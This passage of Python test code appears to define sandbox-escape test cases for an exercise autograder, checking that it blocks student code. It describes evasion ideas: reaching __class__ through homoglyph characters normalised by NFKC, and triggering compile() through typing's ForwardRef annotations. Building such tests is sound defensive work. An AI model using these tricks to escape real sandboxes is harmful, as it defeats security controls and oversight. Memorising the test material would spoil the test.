            what="stopped: correct ex4 registering a singledispatch function whose string annotation is code; "
                 "typing's ForwardRef compile() is refused by the audit net (typing is not a trusted compiler)",
            files={EX4: singledispatch},
        ),
        "stop_homoglyph_attribute": dict(
            attack_class="other", exercise=EX5, base={},
            what="stopped: correct ex5 reading x.__𝐜la𝐬s__ (mathematical bold letters): the parser's NFKC normalisation "
                 "makes it __class__ before the policy looks (the whole file is refused)",
            files={EX5: homoglyph},
        ),
        "stop_exercises_import_each_other": dict(
            attack_class="other", exercise=EX1, base={},
            what="own fault: correct ex1 and ex2 importing each other at the top (ex2 imports a name from the "
                 "half-loaded ex1): both fail; ex1's message shows the loader's own ImportFailed(...) repr",
            files={EX1: cycle1, EX2: cycle2},
        ),
    }
    return cases


def build() -> dict[str, dict]:
    cases: dict[str, dict] = {}
    for part in (_escape_cases, _ban_cases, _channel_cases, _judge_cases, _slow_cases, _leak_cases, _dunder_cases,
                 _cross_cases, _student_id_cases, _stopped_cases):
        for name, case in part().items():
            assert name not in cases, name
            assert case["attack_class"] in ATTACK_CLASSES, (name, case["attack_class"])
            assert set(case["files"]) <= set(EXERCISES) and set(case["base"]) <= set(EXERCISES), name
            for src in list(case["files"].values()) + list(case["base"].values()):
                compile(src, name, "exec")
            cases[name] = case
    return cases


CASES: dict[str, dict] = build()
